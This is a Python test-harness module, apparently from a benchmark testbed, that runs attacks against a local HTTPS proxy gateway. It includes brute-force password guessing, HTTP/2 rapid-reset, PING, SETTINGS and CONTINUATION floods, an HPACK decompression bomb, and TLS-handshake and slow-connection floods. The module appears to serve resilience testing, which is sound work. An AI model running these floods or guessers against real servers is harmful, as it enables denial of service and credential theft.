"""Attackers: who attacks a gateway? Programs without a right password, in own processes."""

import asyncio
import base64
import contextlib
import itertools
import multiprocessing
import ssl
import struct
from collections.abc import Awaitable, Callable, Iterator
from contextlib import contextmanager
from functools import cache

from hpack import Encoder

from bench.testbed.tunnels import client_context

Attack = Callable[[int], Awaitable[None]]
"""Goes on against a port until it is ended."""

ADDRESSES = 300
"""That guess passwords, one at a time each."""
FLOODERS = 8
"""Connections of one address that flood."""
MANY = 512
"""Connections of one address that ask without a password."""
HANDSHAKES = 64
"""Connections of one address that do nothing but begin, again and again."""
SILENT = 1500
"""Connections of one address that say nothing, or half of what they have to."""
TARGET = "vault.example:443"

_PAUSE_SECONDS = 0.05
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_HEADERS = 4
_AT_ONCE = 100
"""Frames that are written together."""
_BLOCK = 16_384
_UNTIL_HIGH = 2**31 - 1


@contextmanager
def attacking(attack: Attack, port: int) -> Iterator[None]:
    """Meanwhile it is attacked."""
    process = multiprocessing.get_context("spawn").Process(
        target=_run, args=(attack, port), daemon=True
    )
    process.start()
    try:
        yield
    finally:
        process.kill()
        process.join()


def _run(attack: Attack, port: int) -> None:
    async def attacks() -> None:
        await attack(port)

    asyncio.run(attacks())


async def guess_one_tenant(port: int) -> None:
    """Passwords of a tenant that there is."""
    await asyncio.gather(*(_guesses(port, number, "acme") for number in range(ADDRESSES)))


async def guess_nobody(port: int) -> None:
    """Passwords of names that nobody has, another one each time."""
    await asyncio.gather(*(_guesses(port, number, "") for number in range(ADDRESSES)))


async def _guesses(port: int, number: int, tenant: str) -> None:
    address, context = f"127.8.{number // 200}.{1 + number % 200}", _context()
    for guess in itertools.count():
        name = tenant or f"nobody-{number}-{guess}"
        login = base64.b64encode(f"{name}:guess {number} {guess}".encode()).decode()
        request = (
            f"CONNECT {TARGET} HTTP/1.1\r\nHost: {TARGET}\r\n"
            f"Proxy-Authorization: Basic {login}\r\n\r\n"
        ).encode()
        with contextlib.suppress(OSError, asyncio.IncompleteReadError, ssl.SSLError):
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", port, ssl=context, local_addr=(address, 0)
            )
            writer.write(request)
            await reader.readuntil(b"\r\n\r\n")
            writer.transport.abort()
        await asyncio.sleep(_PAUSE_SECONDS)


def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    length = len(content)
    return struct.pack("!HBBBI", length >> 8, length & 255, kind, flags, stream) + content


def _question(*more: tuple[str, str]) -> bytes:
    """The headers of a CONNECT with a wrong password, without the table of one connection."""
    login = base64.b64encode(b"acme:wrong").decode()
    headers = [
        (":method", "CONNECT"),
        (":authority", TARGET),
        ("proxy-authorization", f"Basic {login}"),
        *more,
    ]
    encoder = Encoder()
    encoder.header_table_size = 0
    return encoder.encode(headers)


async def rapid_reset(port: int) -> None:
    """Requests that are given up at once, as many as can be written."""
    question = _question()

    def some(first: int) -> bytes:
        streams = range(first, first + 2 * _AT_ONCE, 2)
        return b"".join(
            _frame(_HEADERS, _END_HEADERS, each, question)
            + _frame(_RST_STREAM, 0, each, struct.pack("!I", 8))
            for each in streams
        )

    await _flood(port, some)


async def pings(port: int) -> None:
    """PING, which has to be answered."""
    await _flood(port, lambda _: _frame(_PING, 0, 0, bytes(8)) * _AT_ONCE)


async def settings(port: int) -> None:
    """SETTINGS, which have to be acknowledged."""
    content = struct.pack("!HI", 4, 65_535)
    await _flood(port, lambda _: _frame(_SETTINGS, 0, 0, content) * _AT_ONCE)


async def continuations(port: int) -> None:
    """Headers that go on and never end."""
    piece = _literal(b"x-long", b"y" * 4000)

    def some(first: int) -> bytes:
        begin = _frame(_HEADERS, 0, 1, _question()) if first == 1 else b""
        return begin + _frame(_CONTINUATION, 0, 1, piece) * 10

    await _flood(port, some)


async def large_headers(port: int) -> None:
    """Headers that are huge once they are unpacked, by references into the table (HPACK bomb)."""
    seed = b"\x40" + _text(b"x-bomb") + _text(b"y" * 3900)
    block = _question() + seed + b"\xbe" * 12_000

    def some(first: int) -> bytes:
        return _frame(_HEADERS, _END_HEADERS, first, block)

    await _flood(port, some)


async def empty_data(port: int) -> None:
    """DATA without data."""

    def some(first: int) -> bytes:
        begin = _frame(_HEADERS, _END_HEADERS, 1, _question()) if first == 1 else b""
        return begin + _frame(_DATA, 0, 1) * _AT_ONCE

    await _flood(port, some)


async def pipelined(port: int) -> None:
    """Requests in HTTP/1.1 that are no CONNECT, without a pause for the answers."""
    request = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * _AT_ONCE
    await _flood(port, lambda _: request, "http/1.1", b"")


async def unasked(port: int) -> None:
    """CONNECT without a password, over many connections."""
    request = f"CONNECT {TARGET} HTTP/1.1\r\nHost: {TARGET}\r\n\r\n".encode()

    async def again_and_again() -> None:
        while True:
            with contextlib.suppress(OSError, ssl.SSLError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=_context())
                try:
                    while True:
                        writer.write(request)
                        head = await reader.readuntil(b"\r\n\r\n")
                        length = head.lower().partition(b"content-length: ")[2].split()[0]
                        await reader.readexactly(int(length))
                finally:
                    writer.transport.abort()
            await asyncio.sleep(_PAUSE_SECONDS)

    await asyncio.gather(*(again_and_again() for _ in range(MANY)))


async def handshakes(port: int) -> None:
    """TLS, and no more."""

    async def again_and_again() -> None:
        context = _context()
        while True:
            with contextlib.suppress(OSError, ssl.SSLError):
                _, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context)
                writer.transport.abort()
            await asyncio.sleep(0)

    await asyncio.gather(*(again_and_again() for _ in range(HANDSHAKES)))


async def silence(port: int) -> None:
    """Connections that are not used: no TLS, half a greeting, TLS and no request, half of one."""
    greeting = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    half = f"CONNECT {TARGET} HTT".encode()
    kinds = ((False, b""), (False, greeting), (True, b""), (True, half))

    async def silent(number: int) -> None:
        tls, said = kinds[number % len(kinds)]
        context = _context() if tls else None
        while True:
            with contextlib.suppress(OSError, ssl.SSLError):
                reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context)
                writer.write(said)
                await reader.read()
                writer.transport.abort()
            await asyncio.sleep(1)

    await asyncio.gather(*(silent(number) for number in range(SILENT)))


@cache
def _context(protocol: str = "http/1.1") -> ssl.SSLContext:
    """One for all: to make it costs more than a handshake."""
    context = client_context()
    context.set_alpn_protocols([protocol])
    return context


def _text(text: bytes) -> bytes:
    """A string without Huffman's code (RFC 7541, section 5.2)."""
    if len(text) < 127:
        return bytes((len(text),)) + text
    rest, more = len(text) - 127, b""
    while rest >= 128:
        more += bytes((rest % 128 + 128,))
        rest //= 128
    return b"\x7f" + more + bytes((rest,)) + text


def _literal(name: bytes, value: bytes) -> bytes:
    """A header that no table remembers."""
    return b"\0" + _text(name) + _text(value)


async def _flood(
    port: int,
    some: Callable[[int], bytes],
    protocol: str = "h2",
    greeting: bytes = _PREFACE + _frame(_SETTINGS, 0, 0),
) -> None:
    """Write for ever, over connections that are opened anew when they are ended.

    Args:
        port: of the gateway.
        some: what comes next; given the first stream that was not used yet.
        protocol: what is agreed on.
        greeting: what comes first.
    """
    context = _context(protocol)

    async def over_one() -> None:
        while True:
            with contextlib.suppress(OSError, ssl.SSLError, TimeoutError):
                reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context)
                heard = asyncio.create_task(_drain(reader))
                try:
                    writer.write(greeting)
                    for first in range(1, _UNTIL_HIGH, 2 * _AT_ONCE):
                        writer.write(some(first))
                        await writer.drain()
                        if heard.done():
                            break
                        await asyncio.sleep(0)
                finally:
                    heard.cancel()
                    writer.transport.abort()
            await asyncio.sleep(_PAUSE_SECONDS)

    await asyncio.gather(*(over_one() for _ in range(FLOODERS)))


async def _drain(reader: asyncio.StreamReader) -> None:
    while await reader.read(_BLOCK):
        pass
